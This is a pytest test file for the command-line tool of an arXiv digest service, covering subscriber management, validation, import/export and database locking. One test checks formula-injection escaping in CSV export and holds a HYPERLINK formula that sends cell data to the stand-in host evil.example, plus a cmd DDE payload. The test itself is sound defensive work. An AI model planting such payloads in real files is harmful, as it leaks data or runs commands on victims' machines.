import csv
import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from digestd.cli import cli


def ok(result):  # type: ignore[no-untyped-def]
    assert result.exit_code == 0, result.output
    return result


def fails_cleanly(result, message: str) -> None:  # type: ignore[no-untyped-def]
    """Exit code != 0, one readable line (plus an optional hint), no traceback."""
    assert result.exit_code != 0
    assert "Traceback" not in result.output
    lines = [line for line in result.stderr.splitlines() if line and not line.startswith("hint:")]
    assert len(lines) == 1, result.stderr
    assert message in lines[0]


def test_add_show_list_edit_remove(run) -> None:  # type: ignore[no-untyped-def]
    ok(
        run(
            "subscribers",
            "add",
            " Ada@Example.ORG ",
            "--name",
            "Ada",
            "--keywords",
            "graph neural networks:2, diffusion",
            "--exclude",
            "survey",
            "--category",
            "cs.LG",
            "--author",
            "Hinton, Geoffrey",
            "--seed",
            "2401.01234v3",
            "--seed",
            "astro-ph/0601001",
            "--frequency",
            "weekly",
            "--day",
            "tue",
            "--time",
            "7:30",
            "--timezone",
            "Europe/Berlin",
            "--max-papers",
            "15",
        )
    )
    shown = json.loads(ok(run("subscribers", "show", "ada@example.org", "--json")).output)
    assert shown["email"] == "ada@example.org"
    assert shown["keywords"] == "graph neural networks:2, diffusion"
    assert shown["seeds"] == "2401.01234, astro-ph/0601001"
    assert shown["authors"] == "Hinton, Geoffrey"
    assert (shown["day"], shown["time"], shown["timezone"], shown["max_papers"]) == (
        "tue",
        "07:30",
        "Europe/Berlin",
        15,
    )
    # Tuesday 07:30 in Berlin is 05:30 or 06:30 UTC depending on the season.
    assert shown["next_due_at"][11:16] in ("05:30", "06:30")
    listing = ok(run("subscribers", "list")).output
    assert "ada@example.org" in listing and "weekly tue 07:30" in listing and "1 subscriber(s)" in listing

    ok(run("subscribers", "edit", "ada@example.org", "--frequency", "daily", "--keywords", "transformers"))
    shown = json.loads(ok(run("subscribers", "show", "ada@example.org", "--json")).output)
    assert (shown["frequency"], shown["keywords"], shown["exclude"]) == ("daily", "transformers", "survey")

    ok(run("subscribers", "remove", "ada@example.org", "--yes"))
    assert "no subscribers yet" in ok(run("subscribers", "list")).output


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["not-an-address"], "email 'not-an-address' is not a valid address"),
        (["bob@example.org", "--timezone", "Mars/Base"], "timezone 'Mars/Base' is not allowed"),
        (["bob@example.org", "--seed", "1234.5"], "seed '1234.5' is not an arXiv id"),
        (["bob@example.org", "--time", "25:00"], "time '25:00' is not allowed"),
        (["bob@example.org", "--keywords", "x:0"], "keyword weight in 'x:0' is not allowed"),
        (["bob@example.org", "--category", "Not A Category"], "is not an arXiv category"),
        (["bob@example.org", "--max-papers", "0"], "max papers 0 is not allowed"),
    ],
)
def test_bad_input_is_one_line_and_changes_nothing(run, args: list[str], message: str) -> None:  # type: ignore[no-untyped-def]
    fails_cleanly(run("subscribers", "add", *args), message)
    assert "no subscribers yet" in run("subscribers", "list").output


def test_duplicate_is_refused_and_changes_nothing(run) -> None:  # type: ignore[no-untyped-def]
    ok(run("subscribers", "add", "bob@example.org", "--keywords", "a"))
    fails_cleanly(run("subscribers", "add", "BOB@example.org", "--keywords", "b"), "already exists")
    assert json.loads(run("subscribers", "show", "bob@example.org", "--json").output)["keywords"] == "a"


def test_unknown_subscriber(run) -> None:  # type: ignore[no-untyped-def]
    fails_cleanly(run("subscribers", "show", "ghost@example.org"), "no subscriber ghost@example.org")
    fails_cleanly(run("subscribers", "edit", "ghost@example.org", "--name", "x"), "no subscriber")


def test_wipe_keeps_only_a_hash_and_blocks_re_adding(run, engine) -> None:  # type: ignore[no-untyped-def]
    ok(run("subscribers", "add", "carol@example.org", "--keywords", "optics", "--seed", "2401.00001"))
    ok(run("subscribers", "wipe", "carol@example.org", "--yes"))
    with engine.connect() as connection:
        rows = connection.exec_driver_sql("SELECT email_hash, reason FROM suppression").all()
        assert len(rows) == 1 and "carol" not in rows[0][0] and rows[0][1] == "wiped"
        assert connection.exec_driver_sql("SELECT count(*) FROM profile_item").scalar() == 0
    fails_cleanly(run("subscribers", "add", "carol@example.org", "--keywords", "optics"), "suppression list")


def test_export_then_import_round_trips(run, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    ok(
        run(
            "subscribers",
            "add",
            "a@example.org",
            "--keywords",
            "x:2, y",
            "--author",
            "Hinton, Geoffrey",
            "--author",
            "Y. LeCun",
        )
    )
    ok(run("subscribers", "add", "b@example.org", "--frequency", "daily", "--weekdays-only", "--category", "hep-th"))
    for fmt in ("csv", "json"):
        path = tmp_path / f"subs.{fmt}"
        ok(run("subscribers", "export", str(path)))
        before = run("subscribers", "export", "--format", "json").output
        ok(run("subscribers", "remove", "a@example.org", "--yes"))
        ok(run("subscribers", "remove", "b@example.org", "--yes"))
        assert "imported 2 subscriber(s)" in ok(run("subscribers", "import", str(path))).output
        assert run("subscribers", "export", "--format", "json").output == before


def test_import_is_all_or_nothing_and_names_every_bad_line(run, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    path = tmp_path / "subs.csv"
    path.write_text(
        "email,keywords,timezone,seeds\n"
        "good@example.org,optics,UTC,\n"
        "bad-address,optics,UTC,\n"
        "tz@example.org,optics,Nowhere/City,\n"
        "seed@example.org,optics,UTC,12345\n"
        "good@example.org,again,UTC,\n"
    )
    result = run("subscribers", "import", str(path))
    fails_cleanly(result, "4 bad row(s), nothing imported")
    for line in ("line 3:", "line 4:", "line 5:", "line 6:"):
        assert line in result.stderr
    assert "no subscribers yet" in run("subscribers", "list").output


def test_import_json_reports_rows_by_position(run, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    path = tmp_path / "subs.json"
    path.write_text(
        json.dumps(
            [{"email": "ok@example.org", "keywords": "optics"}, {"email": "x@example.org", "frequency": "hourly"}]
        )
    )
    fails_cleanly(run("subscribers", "import", str(path)), "line 2: frequency 'hourly' is not allowed")


def test_commands_without_init_say_how_to_fix(tmp_path: Path) -> None:
    result = CliRunner().invoke(cli, ["--database", f"sqlite:///{tmp_path / 'x.sqlite3'}", "subscribers", "list"])
    assert result.exit_code == 1
    assert "error: the database is empty" in result.stderr and "digestd init" in result.stderr


def _commands(group, prefix=()):  # type: ignore[no-untyped-def]
    for name, command in group.commands.items():
        yield (*prefix, name), command
        if hasattr(command, "commands"):
            yield from _commands(command, (*prefix, name))


@pytest.mark.parametrize("path", [path for path, _ in _commands(cli)], ids=" ".join)
def test_every_command_has_help_with_an_example(path: tuple[str, ...]) -> None:
    result = CliRunner().invoke(cli, [*path, "--help"])
    assert result.exit_code == 0
    assert "Example" in result.output, f"`digestd {' '.join(path)} --help` shows no example"


def test_seeds_import_from_bibtex(run, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    ok(run("subscribers", "add", "ada@example.org", "--seed", "2401.00001"))
    bib = tmp_path / "refs.bib"
    bib.write_text(
        "@article{a, title={One}, eprint={2401.00001v2}, archivePrefix={arXiv}}\n"
        "@misc{b, title={Two}, url={https://arxiv.org/abs/astro-ph/0601001}}\n"
        "@article{c, title={Three}, journal={arXiv preprint arXiv:2310.12345}}\n"
        "@book{d, title={No arXiv id here}}\n"
    )
    result = ok(run("subscribers", "seeds", "import", "ada@example.org", str(bib)))
    assert "3 arXiv id(s)" in result.output and "2 new seed(s)" in result.output
    seeds = json.loads(run("subscribers", "show", "ada@example.org", "--json").output)["seeds"]
    assert seeds == "2401.00001, astro-ph/0601001, 2310.12345"
    empty = tmp_path / "empty.bib"
    empty.write_text("@book{d, title={Nothing}}\n")
    fails_cleanly(run("subscribers", "seeds", "import", "ada@example.org", str(empty)), "cites no arXiv paper")


def test_rate_records_the_latest_rating(run, engine) -> None:  # type: ignore[no-untyped-def]
    ok(run("subscribers", "add", "ada@example.org", "--keywords", "optics"))
    assert "rated 2401.00001 up" in ok(run("rate", "ada@example.org", "arXiv:2401.00001v3", "up")).output
    ok(run("rate", "ada@example.org", "2401.00001", "down"))
    with engine.connect() as connection:
        assert connection.exec_driver_sql("SELECT paper_id, value FROM rating").all() == [("2401.00001", -1)]
    fails_cleanly(run("rate", "ghost@example.org", "2401.00001", "up"), "no subscriber ghost@example.org")


def test_categories_boost_by_default_or_filter(run, engine) -> None:  # type: ignore[no-untyped-def]
    ok(run("subscribers", "add", "ada@example.org", "--category", "cs.LG"))
    assert json.loads(run("subscribers", "show", "ada@example.org", "--json").output)["category_filter"] is False
    ok(run("subscribers", "edit", "ada@example.org", "--category-filter"))
    assert json.loads(run("subscribers", "show", "ada@example.org", "--json").output)["category_filter"] is True


def test_csv_export_defuses_formulas_and_import_reads_them_back_exactly(run, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """A cell starting with = + - @ is a formula to a spreadsheet: it is written after a
    `'` (OWASP's advice), and read back without it; so are cells that start with quotes
    before one, so that every value comes back as it was."""
    names = {
        "a@example.org": '=HYPERLINK("https://evil.example/?"&A1,"click")',
        "b@example.org": "+1",
        "c@example.org": "-x",
        "d@example.org": "@x",
        "e@example.org": "'=already quoted",
        "f@example.org": "'t Hooft",
    }
    for address, name in names.items():
        ok(run("subscribers", "add", address, "--name", name, "--keywords", "optics"))
    ok(run("subscribers", "add", "=g@example.org", "--keywords", "=cmd|' /C calc'!A0"))
    path = tmp_path / "subs.csv"
    ok(run("subscribers", "export", str(path)))
    cells = [cell for row in csv.reader(path.read_text().splitlines()) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")], cells
    assert {"'" + name for name in names.values() if name != "'t Hooft"} <= set(cells) and "'t Hooft" in cells
    before = run("subscribers", "export", "--format", "json").output
    for address in [*names, "=g@example.org"]:
        ok(run("subscribers", "remove", address, "--yes"))
    assert "imported 7 subscriber(s)" in ok(run("subscribers", "import", str(path))).output
    assert run("subscribers", "export", "--format", "json").output == before


def test_an_edit_while_the_daemon_writes_waits_for_it_and_keeps_both(run, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """A read then a write in one deferred SQLite transaction fails at once ("database is
    locked", no busy wait) when another connection commits in between, as a running daemon
    does; `edit` takes the write lock first, so it waits and both changes stay."""
    import sqlite3
    import threading

    assert run("subscribers", "add", "ada@example.org", "--keywords", "optics").exit_code == 0
    holding, release = threading.Event(), threading.Event()

    def daemon_like_writer() -> None:
        connection = sqlite3.connect(tmp_path / "digestd.sqlite3", timeout=30, isolation_level=None)
        connection.execute("BEGIN IMMEDIATE")
        connection.execute("UPDATE subscriber SET name = 'Ada L.'")
        holding.set()
        release.wait(60)
        connection.execute("COMMIT")
        connection.close()

    writer = threading.Thread(target=daemon_like_writer)
    writer.start()
    assert holding.wait(60), "the writer holds the lock"
    # the writer commits while `edit` is under way (it reads within 3 s on any machine)
    threading.Timer(3.0, release.set).start()
    try:
        edited = run("subscribers", "edit", "ada@example.org", "--keywords", "lasers")
    finally:
        release.set()
        writer.join(60)
    assert edited.exit_code == 0, edited.output
    shown = json.loads(run("subscribers", "show", "ada@example.org", "--json").output)
    assert (shown["name"], shown["keywords"]) == ("Ada L.", "lasers"), shown
